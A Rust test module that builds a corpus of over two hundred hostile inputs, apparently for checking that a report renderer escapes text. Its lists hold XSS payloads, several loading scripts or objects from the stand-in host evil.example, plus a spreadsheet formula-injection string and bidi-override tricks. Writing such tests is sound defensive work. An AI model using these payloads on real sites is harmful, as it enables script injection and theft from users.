//! Text as somebody would write it who knows that it ends up in a report.

/// What closes something before the attack begins.
const BEFORE: [&str; 8] = ["", "\">", "'>", "</title>", "</style>", "-->", "]]>", "</text></svg>"];

/// The attacks.
const ATTACKS: [&str; 32] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "<a href=\"jav\tascript:alert(1)\">here</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">here</a>",
    "javascript:alert(1)",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=//evil.example/><button>continue</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<p style=\"background:url(http://evil.example/x.png)\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "\" onmouseover=\"alert(1)\" x=\"",
];

/// More than two hundred texts: attacks on markup, control characters, marks that turn a text, and endless ones.
pub(super) fn corpus() -> Vec<String> {
    let mut texts: Vec<String> =
        BEFORE.iter().flat_map(|before| ATTACKS.iter().map(move |attack| format!("{before}{attack}"))).collect();
    texts.extend(
        [
            "",
            " ",
            "\u{202e}gpj.exe",
            "\u{2066}a\u{2069}\u{200f}b\u{200b}c",
            "\0\u{1}\u{7}\u{8}\u{b}\u{1b}[31mred\u{1b}[0m\u{7f}\u{85}",
            "line\r\nfeed\ttab\u{2028}separator\u{2029}",
            "\u{feff}mark\u{fffe}\u{ffff}\u{10ffff}",
            "Ｈａｌｆｗｉｄｔｈ 东京 Straße naïve Ελλάδα Россия עברית العربية 🙂👩‍👩‍👧",
            "Z\u{0351}\u{0306}a\u{0315}l\u{0489}g\u{0337}o",
            "=cmd|' /C calc'!A0",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003ealert(1)",
        ]
        .map(str::to_owned),
    );
    texts.extend(["x", "é", "界", "<b>", "a b "].map(|part| part.repeat(10_000 / part.chars().count())));
    texts
}
